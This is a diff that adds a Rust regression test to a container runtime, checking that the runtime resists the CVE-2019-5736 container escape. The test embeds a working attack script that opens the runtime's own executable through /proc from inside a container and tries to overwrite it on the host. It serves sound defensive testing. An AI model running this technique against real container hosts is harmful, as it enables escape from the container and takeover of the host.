@@ -261,3 +261,42 @@ fn init_reaps_and_passes_signals() {
     world.sh(&["--init"], "exit 9").code(9);
     assert_eq!(world.host.run(["run", "--rm", "--init", BUSYBOX, "true"]).ok().stdout, "");
 }
+
+/// CVE-2019-5736: a command `#!/proc/self/exe` has the program that entered the container executed inside, where root could keep its
+/// file open, and write to it on the host once it has ended.
+#[test]
+fn the_program_cannot_be_written_to_from_inside() {
+    let world = World::root();
+    // An image with the libraries that it needs. Not the program under test itself: should it ever be written to, the other tests go on.
+    world.host.admin("mkdir -m 777 /tmp/shared; cp /tmp/bin/devoxx-container /tmp/home/program");
+    let program = |words: &str| world.host.sh(&format!("/tmp/home/program {words}"));
+    let size = world.host.admin("stat -c %s /tmp/home/program");
+    let attack = format!(
+        "printf '#!/proc/self/exe\\n' >/evil; chmod 755 /evil; echo ready >/shared/ready
+         until [ -e /shared/kept ]; do
+             for process in /proc/[0-9]*; do
+                 [ \"$(stat -Lc %s $process/exe 2>/dev/null)\" = {} ] && exec 3<$process/exe && echo kept >/shared/kept && break
+             done
+         done 2>/dev/null
+         while :; do
+             (echo written >/proc/self/fd/3) 2>/tmp/said && echo written >/shared/said && exit
+             grep -q 'Text file busy' /tmp/said || {{ cp /tmp/said /shared/part; mv /shared/part /shared/said; exit; }}
+         done",
+        size.line()
+    );
+    world.host.admin(&format!("cat >/tmp/shared/attack <<'SCRIPT'\n{attack}\nSCRIPT"));
+    program(
+        "run -d --name it --network none -v /tmp/shared:/shared 127.0.0.1:5000/debian:12 bash /shared/attack",
+    )
+    .ok();
+    crate::world::await_file(&world.host, "/tmp/shared/ready");
+    testkit::deadline::wait_for("the program's file is open inside", || {
+        // What it is told there makes no sense to it.
+        drop(program("exec it /evil"));
+        world.host.path("/tmp/shared/kept").exists().then_some(())
+    });
+    let said = crate::world::await_file(&world.host, "/tmp/shared/said");
+    assert!(said.contains("Read-only file system"), "{said}");
+    world.host.admin("cmp /tmp/bin/devoxx-container /tmp/home/program");
+    program("rm -f it").ok();
+}
